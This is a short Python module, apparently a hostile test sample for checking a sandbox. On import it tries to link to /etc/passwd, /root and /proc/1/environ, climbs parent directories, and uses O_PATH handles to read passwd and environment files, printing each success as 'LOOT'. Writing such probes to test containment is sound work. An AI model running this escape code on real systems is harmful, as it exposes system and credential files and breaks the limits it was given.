"""Makes links from its folder to files of the machine, and walks out by `..`."""

import os
import pathlib

_GOALS = ("/etc/passwd", "/root", "/home", "/proc/1/environ", "/proc/self/root/etc")


def _walk_out():
    for number, goal in enumerate(_GOALS):
        for make in (os.symlink, os.link):
            name = f"HOSTILE-MARK-links-out-of-scratch-{number}-{make.__name__}"
            try:
                make(goal, name)
            except OSError:
                continue
            print(f"LOOT: a {make.__name__} to {goal}")
    above = pathlib.Path.cwd()
    while above != above.parent:
        above = above.parent
        try:
            found = os.listdir(above)
        except OSError:
            continue
        if any(name in {"etc", "proc", "home", "slots"} for name in found):
            print(f"LOOT: a listing of {above}")
    # A handle opened for its path alone is not looked at by every guard.
    for goal in ("/", "/proc", "/etc", ".."):
        try:
            handle = os.open(goal, os.O_PATH | os.O_DIRECTORY)
        except OSError:
            continue
        for name in ("etc/passwd", "passwd", "1/environ", "self/environ"):
            try:
                os.read(os.open(name, os.O_RDONLY, dir_fd=handle), 1)
            except OSError:
                continue
            print(f"LOOT: {name} by way of {goal}")


_walk_out()
